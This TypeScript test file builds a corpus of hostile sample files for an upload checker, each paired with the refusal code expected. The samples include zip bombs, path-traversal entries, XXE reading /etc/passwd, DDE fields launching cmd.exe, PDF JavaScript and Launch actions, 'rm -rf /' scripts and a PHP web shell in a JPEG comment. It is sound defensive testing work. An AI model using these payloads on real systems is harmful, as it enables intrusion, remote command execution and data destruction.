import type { ErrorCode } from "@kheo/core/rules/errors";
import { deflateSync } from "node:zlib";
import { archive, excelParts, relationship, rels, types, wordParts, wordWith } from "./testing-archives.ts";
import { objectStream, pdf, script, stream } from "./testing-pdfs.ts";
import * as pictures from "./testing-pictures.ts";

/** A file that was made to harm, or only looks so: what it is, and the code it is refused with or why it is harmless. */
export type Hostile = readonly [
  what: string,
  file: () => Buffer | Promise<Buffer>,
  expected: ErrorCode | { readonly harmless: string },
];

const text = (content: string) => () => Buffer.from(content, "latin1");
const box = (brand: string) => text(`\u0000\u0000\u0000\u0018ftyp${brand}\u0000\u0000\u0000\u0000${brand}mif1`);
const compound = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
const container = (stream: string) => () =>
  Buffer.concat([Buffer.from(compound), Buffer.alloc(1_016), Buffer.from(stream, "utf16le"), Buffer.alloc(512)]);
const zip = () => archive([{ name: "ghi chú.txt", content: "xin chào" }]);
const word = (more: Parameters<typeof wordParts>[0]) => () => archive(wordParts(more));
const part = (name: string, content: Buffer | string = "x") => word({ more: [{ name, content }] });
const linked = (type: string, target: string, mode?: string) => () => wordWith(relationship(type, target, mode));
const field = (body: string) => word({ body });
const behind = (file: () => Promise<Buffer>, more: () => Buffer) => async () => Buffer.concat([await file(), more()]);
const half = (file: () => Promise<Buffer>) => async () => {
  const whole = await file();
  return whole.subarray(0, whole.length / 2);
};
const action = (written: string) => () => pdf({ objects: [written] });
const page = "<html><script>alert(1)</script></html>";
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
const drawnAnew = { harmless: "the photo is drawn anew, without what stood beside its dots" };

const otherKinds: readonly Hostile[] = [
  ["nothing at all", text(""), "file.empty"],
  ["a plain text", text("Kính gửi hội đồng"), "file.notTaken"],
  ["a photo of an iPhone, HEIC", box("heic"), "file.heic"],
  ["a series of HEIC", box("hevc"), "file.heic"],
  ["an AVIF", box("avif"), "file.notTaken"],
  ["a film, MP4", box("isom"), "file.video"],
  ["a film of a phone, MOV", box("qt  "), "file.video"],
  ["a GIF", text("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;"), "file.notTaken"],
  ["an old Word file", container("WordDocument"), "file.oldOffice"],
  ["an old Excel file", container("Workbook"), "file.oldOffice"],
  ["a Word file with a password", container("EncryptedPackage"), "file.locked"],
  ["a zip", zip, "file.archive"],
  ["an empty zip", () => archive([]), "file.archive"],
  ["a rar", text("Rar!\u001A\u0007\u0001\u0000"), "file.archive"],
  ["a 7z", text("7z\u00BC\u00AF\u0027\u001C\u0000\u0004"), "file.archive"],
  ["a gzip", text("\u001F\u008B\u0008\u0000\u0000\u0000\u0000\u0000"), "file.archive"],
  ["an SVG with a script", text('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'), "file.program"],
  ["an SVG behind spaces and a mark of order", text(`\u00EF\u00BB\u00BF \n<svg/>`), "file.program"],
  ["a page", text(`<!DOCTYPE html>${page}`), "file.program"],
  ["a page in two bytes a letter", () => Buffer.from(`\uFEFF${page}`, "utf16le"), "file.program"],
  ["a script of a shell", text("#!/bin/sh\nrm -rf /\n"), "file.program"],
  ["a batch file", text("@echo off\r\ndel /q *.*\r\n"), "file.program"],
  ["a program of Windows", () => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(400)]), "file.program"],
  [
    "a program of Linux",
    () => Buffer.concat([Buffer.from("\u007FELF\u0002\u0001\u0001"), Buffer.alloc(400)]),
    "file.program",
  ],
  ["a text in RTF", text("{\\rtf1 {\\object\\objemb}}"), "file.program"],
  [
    "a presentation",
    () =>
      archive(
        wordParts({
          main: '<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>',
        }),
      ),
    "file.notTaken",
  ],
  [
    "an OpenDocument text",
    () => archive([{ name: "mimetype", content: "application/vnd.oasis.opendocument.text", isStored: true }]),
    "file.notTaken",
  ],
];

const archives: readonly Hostile[] = [
  [
    "a Word file that unpacks to a hundred and fifty megabytes",
    word({ more: [1, 2, 3].map((index) => ({ name: `word/media/${index}.emf`, content: zeros(50) })) }),
    "file.unpacksTooLarge",
  ],
  ["a Word file packed a thousandfold", part("word/media/1.emf", zeros(20)), "file.unpacksTooLarge"],
  ["a part larger than any is", part("word/media/1.emf", zeros(66)), "file.unpacksTooLarge"],
  [
    "a part that says it is smaller",
    word({ more: [{ name: "word/a.xml", content: `<a>${" ".repeat(9_000)}</a>`, announced: 10 }] }),
    "file.disguised",
  ],
  [
    "a part that says it is larger",
    word({ more: [{ name: "word/a.xml", content: "<a/>", announced: 5_000 }] }),
    "file.disguised",
  ],
  ["a part with another sum", word({ more: [{ name: "word/a.xml", content: "<a/>", sum: 7 }] }), "file.disguised"],
  [
    "two thousand and more parts",
    word({ more: Array.from({ length: 2_000 }, (_, index) => ({ name: `word/${index}.xml`, content: "<a/>" })) }),
    "file.unpacksTooLarge",
  ],
  ["an archive in a Word file", part("word/media/image1.png", zip()), "file.embedded"],
  ["a program in a Word file", part("word/media/image1.png", "MZ\u0090\u0000"), "file.embedded"],
  ["a part that climbs out", part("../../etc/cron.d/x"), "file.disguised"],
  ["a part with a place of its own", part("/etc/passwd"), "file.disguised"],
  ["a part on a drive", part("C:/Windows/x.xml"), "file.disguised"],
  ["a part with the other slash", part("word\\..\\x.xml"), "file.disguised"],
  ["a part twice", part("word/document.xml", "<a/>"), "file.disguised"],
  ["a part twice, once in capitals", part("WORD/DOCUMENT.XML", "<a/>"), "file.disguised"],
  [
    "a part with two names",
    word({ more: [{ name: "word/a.xml", localName: "word/b.xml", content: "<a/>" }] }),
    "file.disguised",
  ],
  ["a locked part", word({ more: [{ name: "word/a.xml", content: "<a/>", isLocked: true }] }), "file.locked"],
  [
    "a part packed in a rare way",
    word({ more: [{ name: "word/a.xml", content: "<a/>", method: 12 }] }),
    "file.unreadable",
  ],
  [
    "a program in front of a Word file",
    () => archive(wordParts(), { before: `MZ${"\u0000".repeat(400)}` }),
    "file.program",
  ],
  ["a text in front of a Word file", () => archive(wordParts(), { before: "xin chào" }), "file.disguised"],
  [
    "an entry in front of the first one of a Word file",
    () => Buffer.concat([zip().subarray(0, 50), archive(wordParts())]),
    "file.disguised",
  ],
  [
    "a page between the parts",
    word({
      more: [
        { name: "word/a.xml", content: "<a/>", after: page },
        { name: "word/b.xml", content: "<b/>" },
      ],
    }),
    "file.disguised",
  ],
  ["a page between parts and list", () => archive(wordParts(), { gap: page }), "file.disguised"],
  ["a page in the comment", () => archive(wordParts(), { comment: page }), "file.disguised"],
  ["a page behind the end", () => archive(wordParts(), { behind: page }), "file.disguised"],
  ["a second archive behind the first", () => Buffer.concat([archive(wordParts()), zip()]), "file.disguised"],
  ["half a Word file", () => archive(wordParts()).subarray(0, 300), "file.unreadable"],
  [
    "a Word file without a text",
    () =>
      archive([
        {
          name: "[Content_Types].xml",
          content: types(
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
          ),
        },
      ]),
    "file.unreadable",
  ],
];

const offices: readonly Hostile[] = [
  [
    "elsewhere, in a list in capitals",
    part("word/_rels/document.xml.RELS", rels(relationship("image", "http://192.0.2.1/x"))),
    "file.outsideLinks",
  ],
  [
    "an entity in a part without its ending",
    part("word/settings.dat", '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'),
    "file.disguised",
  ],
  [
    "a field that fetches a text, in letters by their numbers",
    field("<w:r><w:instrText>INCLUDE&#84;E&#x58;T http://192.0.2.1</w:instrText></w:r>"),
    "file.outsideLinks",
  ],
  [
    "a text under another name",
    () =>
      archive(
        wordParts({
          main: '<Override PartName="/word/document2.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
          more: [{ name: "word/document2.xml", content: "<a/>" }],
        }),
      ),
    { harmless: "Word on the web writes so" },
  ],
  ["a drawing in a Word file", part("word/media/image1.svg", "<svg/>"), { harmless: "Word draws it and runs nothing" }],
  ["macros in a Word file", part("word/vbaProject.bin"), "file.macros"],
  [
    "a docm by its type",
    () =>
      archive(
        wordParts({
          main: '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        }),
      ),
    "file.macros",
  ],
  [
    "macros under another name",
    word({
      more: [
        {
          name: "word/_rels/document.xml.rels",
          content: rels(
            '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/image1.bin"/>',
          ),
        },
      ],
    }),
    "file.macros",
  ],
  [
    "old macros in an Excel file",
    () => archive(excelParts([{ name: "xl/macrosheets/sheet1.xml", content: "<a/>" }])),
    "file.macros",
  ],
  [
    "macros by the type of a part in an Excel file",
    () =>
      archive(excelParts([], '<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
    "file.macros",
  ],
  ["an embedded object", part("word/embeddings/oleObject1.bin"), "file.embedded"],
  ["an embedded object in a picture's place", part("word/media/image1.emf", Buffer.from(compound)), "file.embedded"],
  ["an ActiveX control", part("word/activeX/activeX1.xml", "<a/>"), "file.embedded"],
  [
    "a control of an Excel file",
    () => archive(excelParts([{ name: "xl/ctrlProps/ctrlProp1.xml", content: "<a/>" }])),
    "file.embedded",
  ],
  ["a page that Word takes in", part("word/afchunk.html", page), "file.embedded"],
  ["a template from elsewhere", linked("attachedTemplate", "http://192.0.2.1/x.dotm"), "file.outsideLinks"],
  ["a picture from elsewhere", linked("image", "http://192.0.2.1/x.png"), "file.outsideLinks"],
  ["an object from elsewhere", linked("oleObject", "mhtml:http://192.0.2.1/x!x-usc:"), "file.outsideLinks"],
  [
    "elsewhere, in letters by their numbers",
    linked("image", "&#104;ttp://192.0.2.1/x", ' TargetMode="&#69;xternal"'),
    "file.outsideLinks",
  ],
  ["elsewhere, not said to be so", linked("image", "file://192.0.2.1/x", ""), "file.outsideLinks"],
  [
    "elsewhere, under a name space of its own",
    word({
      more: [
        {
          name: "word/_rels/document.xml.rels",
          content: rels("")
            .replace("<Relationships xmlns=", "<r:Relationships xmlns:r=")
            .replace("</Rel", `<r:${relationship("image", "http://192.0.2.1/x").slice(1)}</r:Rel`),
        },
      ],
    }),
    "file.outsideLinks",
  ],
  [
    "elsewhere, in two bytes a letter",
    word({
      more: [
        {
          name: "word/_rels/document.xml.rels",
          content: Buffer.from(
            `\uFEFF${rels(relationship("image", "http://192.0.2.1/x")).replace("UTF-8", "UTF-16")}`,
            "utf16le",
          ),
        },
      ],
    }),
    "file.outsideLinks",
  ],
  ["a link that is a script", linked("hyperlink", "javascript:alert(1)"), "file.outsideLinks"],
  [
    "tables of other workbooks",
    () => archive(excelParts([{ name: "xl/externalLinks/externalLink1.xml", content: "<a/>" }])),
    "file.outsideLinks",
  ],
  [
    "a field that runs a program",
    field("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>"),
    "file.outsideLinks",
  ],
  [
    "a field that fetches a picture",
    field('<w:fldSimple w:instr=" INCLUDEPICTURE http://192.0.2.1/x "/>'),
    "file.outsideLinks",
  ],
  [
    "entities that grow",
    part("word/a.xml", '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'),
    "file.disguised",
  ],
  [
    "an entity that reads a file, in two bytes a letter",
    part("word/a.xml", Buffer.from('\uFEFF<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', "utf16le")),
    "file.disguised",
  ],
  [
    "a part in a script nobody reads",
    part("word/a.xml", '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE'),
    "file.unreadable",
  ],
  ["relationships that are no XML", part("word/_rels/document.xml.rels", "<Relationships><"), "file.unreadable"],
  [
    "a link to a page",
    linked("hyperlink", "https://quangngai.gov.vn/"),
    { harmless: "a link is opened by whoever clicks it" },
  ],
  [
    "a text that speaks of macros",
    field("<w:r><w:t>vbaProject.bin, DDEAUTO, javascript:</w:t></w:r>"),
    { harmless: "only a text" },
  ],
];

const pdfs: readonly Hostile[] = [
  [
    "a rarely packed script behind a beginning in a beginning",
    () =>
      pdf({ objects: ["(stream\n) << /Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode >>\nstream\n31\nendstream"] }),
    "file.unreadable",
  ],
  [
    "a PDF of nothing but beginnings",
    () => pdf({ objects: [`${"stream\n".repeat(200_000)}endstream`] }),
    { harmless: "it holds nothing, and takes no long time" },
  ],
  [
    "a PDF with marks and a picture",
    () => pdf({ objects: ["<< /Type /Outlines /First 15 0 R >>", stream("\u00FF\u00D8", "/Filter /DCTDecode")] }),
    { harmless: "only a picture" },
  ],
  ["a script that runs on opening", () => pdf({ catalog: `/OpenAction ${script}` }), "file.activePdf"],
  ["a script of a page", action(`<< /AA << /O ${script} >> >>`), "file.activePdf"],
  ["scripts by name", () => pdf({ catalog: "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>" }), "file.activePdf"],
  ["a script in letters by their numbers", action("<< /S /J#61vaScr#69pt /JS (1) >>"), "file.activePdf"],
  ["a script all in numbers", action("<< /S /#4A#61#76#61#53#63#72#69#70#74 >>"), "file.activePdf"],
  ["a script in a packed stream of objects", () => pdf({ objects: [objectStream(script)] }), "file.activePdf"],
  [
    "a packed script that is not said to be one",
    () => pdf({ objects: [objectStream(script, "/N 1 /First 9 0 R /Filter 8 0 R")] }),
    "file.activePdf",
  ],
  [
    "a packed script behind a long description",
    () =>
      pdf({
        objects: [
          objectStream(script, `/Type /ObjStm /N 1 /First 5 ${" ".repeat(9_000)} % 1 0 obj\n/Filter /FlateDecode`),
        ],
      }),
    "file.activePdf",
  ],
  [
    "a packed script whose end is missing",
    () =>
      pdf({
        objects: [
          stream(
            deflateSync(`10 0 ${script}${" ".repeat(99)}`).subarray(0, -6),
            "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
          ),
        ],
      }),
    "file.unreadable",
  ],
  [
    "objects packed twice",
    () =>
      pdf({
        objects: [
          stream(
            deflateSync(deflateSync(`10 0 ${script}`)),
            "/Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode]",
          ),
        ],
      }),
    "file.unreadable",
  ],
  [
    "objects packed in a rare way",
    () =>
      pdf({
        objects: [
          stream(
            Buffer.from(`10 0 ${script}`).toString("hex"),
            "/Type /Obj#53tm /N 1 /First 5 /Filter /ASCIIHexDecode",
          ),
        ],
      }),
    "file.unreadable",
  ],
  [
    "objects that unpack without end",
    () =>
      pdf({
        objects: [
          stream(
            deflateSync(Buffer.concat([Buffer.from("10 0 "), zeros(101)])),
            "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
          ),
        ],
      }),
    "file.unpacksTooLarge",
  ],
  ["a program that is started", action("<< /S /Launch /F (cmd.exe) >>"), "file.activePdf"],
  ["a form that sends itself", action("<< /S /SubmitForm /F (http://192.0.2.1) >>"), "file.activePdf"],
  ["a living form", () => pdf({ catalog: "/AcroForm << /XFA [(a) 4 0 R] >>" }), "file.activePdf"],
  ["a sound with a script", action("<< /S /Rendition /JS (1) >>"), "file.activePdf"],
  ["rich media", action("<< /Subtype /RichMedia >>"), "file.activePdf"],
  ["an attached file", () => pdf({ catalog: "/Names << /EmbeddedFiles << /Names [] >> >>" }), "file.embedded"],
  ["an attached file as a stream", () => pdf({ objects: [stream("MZ", "/Type /Embedded#46ile")] }), "file.embedded"],
  ["an attached file on a page", action("<< /Subtype /FileAttachment >>"), "file.embedded"],
  ["a PDF with a password", () => pdf({ trailer: "/Encrypt << /Filter /Standard /V 5 >>" }), "file.locked"],
  ["a PDF behind a page", () => pdf({ before: page }), "file.program"],
  ["a PDF behind a few letters", () => pdf({ before: "xin chào\n" }), "file.disguised"],
  ["a PDF with a page behind", () => pdf({ behind: page }), "file.disguised"],
  ["a PDF with a long page behind", () => pdf({ behind: page.repeat(90) }), "file.disguised"],
  ["a PDF that is an archive too", () => pdf({ behind: `${zip().toString("latin1")}\n%%EOF\n` }), "file.disguised"],
  ["a PDF without an end", () => pdf({ end: "" }), "file.unreadable"],
  ["half a PDF", () => pdf().subarray(0, 120), "file.unreadable"],
  ["only the beginning and the end of a PDF", text("%PDF-1.7\n%%EOF\n"), "file.unreadable"],
  [
    "a PDF that opens at a page",
    () => pdf({ catalog: "/OpenAction [3 0 R /Fit]" }),
    { harmless: "it opens at a place in itself" },
  ],
  [
    "a PDF with a link",
    action("<< /S /URI /URI (https://quangngai.gov.vn) >>"),
    { harmless: "a link is opened by whoever clicks it" },
  ],
  [
    "a PDF with a packed page",
    () => pdf({ objects: [stream(deflateSync("0 0 m 9 9 l S"), "/Filter /FlateDecode")] }),
    { harmless: "only strokes" },
  ],
  ["a PDF with names that begin alike", action("<< /LaunchPad 1 /JavaScriptless 2 >>"), { harmless: "other names" }],
];

const photos: readonly Hostile[] = [
  ["nine hundred million dots in a PNG", () => pictures.hugePng(30_000, 30_000), "file.tooManyPixels"],
  ["sixty-one million dots in a PNG", () => pictures.hugePng(61_000, 1_000), "file.tooManyPixels"],
  ["four thousand million dots in a JPEG", () => pictures.hugeJpeg(65_000), "file.tooManyPixels"],
  ["a JPEG that says it is larger than it is", () => pictures.hugeJpeg(2_000), "file.unreadable"],
  ["a moving WebP", pictures.movingWebp, "file.moving"],
  ["a moving PNG", () => pictures.pngWith("acTL", Buffer.from([0, 0, 0, 2, 0, 0, 0, 0])), "file.moving"],
  ["half a JPEG", half(() => pictures.jpeg(400, 300)), "file.unreadable"],
  ["half a PNG", half(pictures.png), "file.unreadable"],
  ["half a WebP", half(pictures.webp), "file.unreadable"],
  ["the beginning of a JPEG", text("\u00FF\u00D8\u00FF\u00E0\u0000\u0010JFIF\u0000"), "file.unreadable"],
  ["a page that begins as a JPEG", text(`\u00FF\u00D8\u00FF\u00E0${page}`), "file.unreadable"],
  ["a JPEG with an archive behind", behind(pictures.jpeg, zip), drawnAnew],
  ["a JPEG with a page behind", behind(pictures.jpeg, text(page)), drawnAnew],
  ["a PNG with a program behind", behind(pictures.png, text("MZ\u0090\u0000")), drawnAnew],
  ["a WebP with a script behind", behind(pictures.webp, text("#!/bin/sh\n")), drawnAnew],
  [
    "a JPEG with a program of a server in a comment",
    () => pictures.jpegWithComment("<?php system($_GET[0]); ?>"),
    drawnAnew,
  ],
  ["a PNG with a page in a text", () => pictures.pngWith("tEXt", Buffer.from(`Comment\u0000${page}`)), drawnAnew],
  ["an archive in front of a JPEG", async () => Buffer.concat([zip(), await pictures.jpeg()]), "file.disguised"],
];

export const corpus: readonly Hostile[] = [...otherKinds, ...archives, ...offices, ...pdfs, ...photos];
